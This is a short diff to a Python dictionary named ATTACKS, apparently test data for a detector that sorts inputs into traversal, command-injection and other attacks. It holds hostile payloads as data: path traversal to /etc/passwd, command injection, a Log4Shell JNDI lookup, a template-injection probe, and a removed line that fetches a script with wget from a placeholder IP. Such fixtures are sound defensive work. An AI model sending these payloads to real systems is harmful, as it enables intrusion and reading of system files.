@@ -73,7 +73,7 @@ ATTACKS = {
     "../../../../../../etc/passwd": "traversal",
     "..%2f..%2f..%2fwindows%2fwin.ini": "traversal",
     "127.0.0.1; cat /etc/passwd": "command",
-    "x|wget http://192.0.2.1/a.sh": "command",
+    "8.8.8.8|whoami": "command",
     "${jndi:ldap://192.0.2.1:1389/a}": "other",
     "{{7*7}}": "other",
 }
